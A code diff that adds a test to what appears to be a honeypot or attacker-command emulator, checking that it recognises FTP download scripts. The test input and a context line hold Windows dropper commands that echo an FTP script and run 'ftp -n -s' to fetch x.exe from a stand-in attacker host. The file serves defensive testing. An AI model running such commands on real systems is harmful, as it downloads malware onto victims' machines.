@@ -159,6 +159,12 @@ test('the other dialogues: autologin lines, a heredoc with cd, echoes piped into
   );
 });
 
+test('a batch file: @echo, upper case, quoted lines', async () => {
+  const received = `@ECHO OPEN ${ATTACKER} 21> s\r\n@echo "user anonymous q" >> s\r\nECHO Get x.exe>> s\r\nftp -n -s:s\r\n`;
+  const out = await run(received);
+  assert.deepEqual(summary(out), [[`ftp://anonymous:q@${ATTACKER}/x.exe`, 'ok', 'ftp-script']]);
+});
+
 test('failures are recorded: login refused, no such file, nothing listening, a host that is not the attacker', async () => {
   const received = [
     `echo open ${ATTACKER} 21 > f & echo user 1 1 >> f & echo get x.exe >> f & ftp -n -s:f`,
